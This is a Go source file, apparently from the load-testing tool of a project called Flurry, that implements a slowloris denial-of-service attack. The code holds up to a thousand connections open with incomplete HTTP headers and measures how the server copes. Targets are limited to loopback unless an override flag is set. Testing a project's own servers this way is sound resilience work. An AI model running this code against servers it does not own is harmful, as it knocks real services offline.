package attack

import (
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"github.com/flurrypt/flurry/internal/sleep"
	"github.com/flurrypt/flurry/loadgen/internal/measure"
)

// Defaults of the slowloris attack.
const (
	DefaultSlowlorisConns    = 1000
	DefaultSlowlorisInterval = 2 * time.Second
	DefaultSlowlorisDuration = 60 * time.Second
)

// SlowlorisConfig configures RunSlowloris.
type SlowlorisConfig struct {
	// AttackTarget's URL is the server to attack: http, https, ws or wss
	// (any Flurry server: relay, broker, natprobe).
	AttackTarget
	// Conns is how many connections to open and keep. Default
	// DefaultSlowlorisConns.
	Conns int
	// Interval is the time between two header bytes on a connection.
	// Default DefaultSlowlorisInterval.
	Interval time.Duration
	// Duration is how long the attack lasts. Default
	// DefaultSlowlorisDuration.
	Duration time.Duration
}

// RunSlowloris opens cfg.Conns connections that send an HTTP request one
// header byte at a time and never finish it, and reports how long the
// server kept them.
func RunSlowloris(ctx context.Context, cfg SlowlorisConfig) (AttackResult, error) {
	u, err := measure.ParseURL(cfg.URL, cfg.AllowNonLoopback, "http", "https", "ws", "wss")
	if err != nil {
		return AttackResult{}, err
	}
	if cfg.Conns == 0 {
		cfg.Conns = DefaultSlowlorisConns
	}
	if cfg.Concurrency == 0 {
		cfg.Concurrency = DefaultFloodConcurrency
	}
	if cfg.Interval == 0 {
		cfg.Interval = DefaultSlowlorisInterval
	}
	if cfg.Duration == 0 {
		cfg.Duration = DefaultSlowlorisDuration
	}
	if cfg.WatchAfter == 0 {
		cfg.WatchAfter = DefaultAttackWatchAfter
	}
	if cfg.Conns < 0 || cfg.Concurrency < 0 || cfg.Interval < 0 || cfg.Duration < 0 {
		return AttackResult{}, fmt.Errorf("%w: negative count or duration", measure.ErrInvalidConfig)
	}
	if cfg.Source != "" {
		if err := measure.CheckHost(cfg.Source, cfg.AllowNonLoopback); err != nil {
			return AttackResult{}, err
		}
	}
	secure := u.Scheme == "https" || u.Scheme == "wss"
	addr := u.Host
	if u.Port() == "" {
		addr = net.JoinHostPort(u.Hostname(), map[bool]string{true: "443", false: "80"}[secure])
	}
	res := AttackResult{Attack: "slowloris", Target: u.String()}
	if _, err := measure.RaiseFileLimit(uint64(cfg.Conns) + 256); err != nil {
		return res, err
	}
	mem, err := startMemWatch(cfg.PID, 250*time.Millisecond)
	if err != nil {
		return res, err
	}
	nd := measure.NewDialer(cfg.AllowNonLoopback)
	if cfg.Source != "" {
		nd.LocalAddr = &net.TCPAddr{IP: net.ParseIP(cfg.Source)}
		measure.BindLate(nd)
	}
	path := u.RequestURI()
	request := "GET " + path + " HTTP/1.1\r\nHost: " + u.Host + "\r\nUpgrade: websocket\r\nX-Slow: "
	parent := ctx
	ctx, cancel := context.WithTimeout(ctx, cfg.Duration)
	defer cancel()

	var (
		errs                       measure.ErrorSamples
		attempted, opened, refused atomic.Int64
		closedBy                   atomic.Int64
		next                       atomic.Int64
		mu                         sync.Mutex
		lifetimes                  []time.Duration // of connections the server closed
	)
	prog := measure.StartProgress(cfg.Progress, cfg.ProgressInterval, mem.withRSS("server", func() string {
		return fmt.Sprintf("slowloris: %d opened, %d refused, %d closed by the server, %d held",
			opened.Load(), refused.Load(), closedBy.Load(), opened.Load()-closedBy.Load())
	}))
	start := time.Now()
	var wg sync.WaitGroup
	sem := make(chan struct{}, cfg.Concurrency)
	for ctx.Err() == nil && next.Add(1) <= int64(cfg.Conns) {
		select {
		case sem <- struct{}{}:
		case <-ctx.Done():
			continue
		}
		wg.Add(1)
		go func() {
			defer wg.Done()
			attempted.Add(1)
			c, err := nd.DialContext(ctx, "tcp", addr)
			if err == nil && secure {
				tc := tls.Client(c, &tls.Config{ServerName: u.Hostname(), InsecureSkipVerify: cfg.Insecure, MinVersion: tls.VersionTLS12}) // #nosec G402 -- only with -insecure
				if err = tc.HandshakeContext(ctx); err != nil {
					c.Close()
				}
				c = tc
			}
			if err == nil {
				_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
				if _, err = io.WriteString(c, request); err != nil {
					c.Close()
				}
			}
			<-sem
			if err != nil {
				refused.Add(1)
				errs.Add(err.Error())
				return
			}
			defer c.Close()
			began := time.Now()
			opened.Add(1)
			gone := make(chan struct{})
			go func() {
				defer close(gone)
				var b [512]byte
				for {
					if _, err := c.Read(b[:]); err != nil {
						return
					}
				}
			}()
			t := time.NewTicker(cfg.Interval)
			defer t.Stop()
			for {
				select {
				case <-ctx.Done():
					c.Close()
					<-gone
					return
				case <-gone:
					closedBy.Add(1)
					mu.Lock()
					lifetimes = append(lifetimes, time.Since(began))
					mu.Unlock()
					return
				case <-t.C:
					_ = c.SetWriteDeadline(time.Now().Add(10 * time.Second))
					if _, err := c.Write([]byte{'a'}); err != nil {
						// Closed by the server; the reader sees it too.
						c.Close()
					}
				}
			}
		}()
	}
	// The attack ends at Duration, or when the server has closed every
	// connection.
	allDone := make(chan struct{})
	go func() {
		wg.Wait()
		close(allDone)
	}()
	select {
	case <-ctx.Done():
	case <-allDone:
	}
	stillOpen := opened.Load() - closedBy.Load()
	cancel()
	<-allDone
	res.Elapsed = time.Since(start)
	prog.Stop()
	if cfg.PID > 0 {
		measure.Say(cfg.Progress, "slowloris: over; watching the server's memory for %v", cfg.WatchAfter)
		sleep.For(parent, cfg.WatchAfter)
	}
	res.Memory, res.Samples = mem.finish(cfg.WatchAfter)
	res.Attempted, res.Completed, res.Refused = attempted.Load(), opened.Load(), refused.Load()
	res.Errors = errs.Get()
	slices.Sort(lifetimes)
	q := func(f float64) string {
		if len(lifetimes) == 0 {
			return "-"
		}
		return lifetimes[int(f*float64(len(lifetimes)-1))].Round(10 * time.Millisecond).String()
	}
	res.Extra = append(res.Extra,
		Figure{"header byte every", cfg.Interval.String()},
		Figure{"closed by the server", fmt.Sprint(closedBy.Load())},
		Figure{"lifetime of closed connections (median, max)", q(0.5) + ", " + q(1)},
		Figure{"still open when the attack ended", fmt.Sprint(stillOpen)},
	)
	return res, parent.Err()
}
